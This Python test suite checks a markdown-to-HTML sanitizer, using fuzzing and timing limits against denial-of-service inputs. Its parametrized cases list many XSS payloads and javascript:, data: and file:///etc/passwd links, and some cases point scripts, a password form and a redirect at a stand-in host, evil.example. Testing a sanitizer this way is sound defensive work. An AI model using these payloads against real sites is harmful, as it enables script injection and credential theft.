"""What must never come out of a text, and how long any text may take."""

import re
import time
from urllib.parse import urljoin

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from app.domain.text.markdown_html import TAGS, html, plain

MARKS = [
    *(
        "[",
        "]",
        "(",
        ")",
        "](",
        "![",
        "<",
        ">",
        "</",
        "&",
        "&#x6a;",
        "javascript:",
        "data:",
        "//",
        "http://a",
        "https://a.b/",
        "a",
        "æ",
        " ",
    ),
    *(
        "- ",
        "* ",
        "1. ",
        "> ",
        "# ",
        "---",
        "***",
        "**",
        "*",
        "_",
        "`",
        "```",
        "|",
        "-|-",
        "\\",
        "\n",
        "\n\n",
        "\t",
        "  ",
        "\r",
    ),
    *(
        "\x00",
        "\x02",
        "\x03",
        "\ue000",
        "\ue001",
        "\ue002",
        "\ud800",
        "\u2028",
        "😀",
        "<script>",
        "<a href=x>",
        "onclick=",
        '"',
    ),
]


def assert_harmless(rendered):
    for tag in BeautifulSoup(rendered, "html.parser").find_all(True):
        assert tag.name in TAGS
        assert set(tag.attrs) <= {"a": {"href", "rel"}, "ol": {"start"}}.get(tag.name, set())
        scheme = re.match(r"[\s\x00-\x20]*([a-z][a-z0-9+.-]*):", tag.get("href", ""), re.IGNORECASE)
        assert scheme is None or scheme[1].lower() in {"http", "https", "mailto", "tel"}
        assert tag.name != "a" or tag["rel"] == ["noopener", "noreferrer", "nofollow"]


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext></p><style><img src onerror=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<a href='javascript:alert(1)'>x</a>",
        "<b onmouseover=alert(1)>x</b>",
        "<style>*{display:none}</style>",
        "<form action=//evil.example><input name=password>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example>",
        "<object data=x></object><embed src=x>",
        "<details open ontoggle=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo 1 ?>",
        "<div\n>a</div\n>",
        "`<script>alert(1)</script>`",
        "    <script>alert(1)</script>",
        "> <script>alert(1)</script>",
        "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
        "# <script>alert(1)</script>",
        '[x](https://a.example"onmouseover="alert(1))',
        "[x](https://a.example'onmouseover='alert(1))",
        "[<script>alert(1)</script>](https://a.example)",
        '<https://a.example/"onclick=alert(1)>',
        "<\x00script>alert(1)</script>",
        "\x02amp\x03lt;script>alert(1)",
        "\x02wzxhzdk:0\x03",
        "klzzwxh:0001",
        "\ue000x](javascript:alert(1))",
        'https://a.example/"onmouseover="alert(1)',
        "https://a.example/<script>alert(1)</script>",
        "https://a.example/\ue000\ue001\ue002'onclick='alert(1)",
    ],
)
def test_no_markup_of_a_stranger_comes_through(text):
    rendered = html(text)
    assert_harmless(rendered)
    assert_harmless(html(plain(text)))
    found = BeautifulSoup(rendered, "html.parser")
    assert not found.select(
        "script, img, svg, style, iframe, form, input, object, embed, meta, base, b, div, math, details"
    )
    assert "onerror" not in {name for tag in found.find_all(True) for name in tag.attrs}


@pytest.mark.parametrize(
    "address",
    [
        *(
            "javascript:alert`1`",
            "JaVaScRiPt:alert`1`",
            "javascript&colon;alert`1`",
            "&#106;avascript:alert`1`",
            "&#x6a;avascript:1",
        ),
        *("java\tscript:1", "java&Tab;script:1", "java&NewLine;script:1", "\x01javascript:1", "vbscript:1"),
        *("data:text/html,1", "data:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd"),
        *("ftp://a.example", "blob:https://a.example/1", "view-source:https://a.example", "ms-word:ofe|u|x", "cid:1"),
    ],
)
def test_a_link_of_another_kind_leads_nowhere(address):
    for text in (
        f"[x]({address})",
        f"<{address}>",
        f"[x](<{address}>)",
        f'[x]({address} "t")',
        f"[x][y]\n\n[y]: {address}",
    ):
        rendered = html(text)
        assert_harmless(rendered)
        assert BeautifulSoup(rendered, "html.parser").select("a[href]") == []


@pytest.mark.parametrize("address", ["javascript\\:1", "\\javascript:1", "%6aavascript:1"])
def test_what_only_resembles_a_scheme_is_a_path_on_this_site(address):
    for link in BeautifulSoup(html(f"[x]({address})"), "html.parser").select("a[href]"):
        assert urljoin("https://alor.example/om", link["href"]).startswith("https://alor.example/")


@given(st.text(st.characters(), max_size=400))
def test_any_text_renders_harmlessly(text):
    assert_harmless(html(text))
    plain(text).encode()


@given(st.lists(st.sampled_from(MARKS), max_size=80).map("".join))
def test_any_mixture_of_marks_renders_harmlessly(text):
    assert_harmless(html(text))
    plain(text).encode()


@pytest.mark.parametrize(
    "text",
    [
        *("[" * 20_000, "- " * 10_000, "> " * 10_000, "1. " * 6_000, "[a](" * 5_000, "# a\n" * 5_000, "-\n" * 10_000),
        *(
            "1234567890. " * 1_600,
            "[a](b)" * 3_300,
            "![" * 10_000,
            "](" * 10_000,
            "[a]: b\n" * 2_800,
            "<a@b.no>" * 2_500,
        ),
        *("http://a.b " * 1_800, "http://a.b(" * 1_800, "*http://a.b* " * 1_500, "http://a.b\n\n" * 1_600),
        *("https://a.b/" + ")" * 19_000, "https://a.b/" + "." * 19_000, "http://" * 2_800, "http://a_b__ " * 1_500),
        *("<" * 20_000, "<a " * 6_600, "&" * 20_000, "<!--" * 5_000, "\\" * 20_000, "\t" * 20_000, "\r" * 20_000),
        *("---\n" * 5_000, "> ---\n" * 3_300, "> # \n" * 4_000, "- a\n\n" * 4_000, "> a\n\n" * 4_000, "> - " * 5_000),
        *(
            "- a\n  # b\n  ---\n" * 1_100,
            "- a\n" + "  # b\n" * 3_000,
            "- a\n" + "  ---\n" * 3_000,
            "a\n" * 10_000,
            "* **\n" * 4_000,
            "\t\n___" * 4_000,
        ),
        *("*" * 20_000, "___" + "*" * 19_000, "__a" + "***" * 6_000, "*a" * 10_000, "**a " * 5_000, "*_" * 10_000),
        *("`" * 20_000, "` " * 10_000, "\\```- " * 3_300, "_\\``" * 5_000, "".join("`" * n + "x" for n in range(198))),
        *("|" * 20_000, "a|b\n-|-\n" * 2_500, "[\n|> \n" * 3_300, "\n1. _**\n1. \n\n> " * 1_200, "\x02" * 20_000),
    ],
    ids=lambda text: repr(text[:9]),
)
def test_a_page_of_the_same_marks_is_shown_within_two_seconds(text):
    started = time.process_time()
    rendered = html(text)
    assert time.process_time() - started < 2
    assert_harmless(rendered[:5_000])


@pytest.mark.parametrize(
    "text", ["> " * 9_000 + "slutt", "- " * 9_000 + "slutt", "1. " * 6_000 + "slutt", ">" * 9_000 + "slutt"]
)
def test_marks_in_a_row_are_shown_and_not_nested(text):
    rendered = html(text)
    assert rendered.count("<") < 10
    assert plain(text).endswith("slutt")


def test_an_ever_deeper_list_stops_nesting_and_keeps_its_items():
    text = "".join(f"{' ' * 2 * depth}- punkt {depth}\n" for depth in range(100))
    found = BeautifulSoup(html(text), "html.parser")
    assert max(len(list(tag.parents)) for tag in found.find_all("li")) < 12
    assert all(f"punkt {depth}" in found.get_text() for depth in range(100))
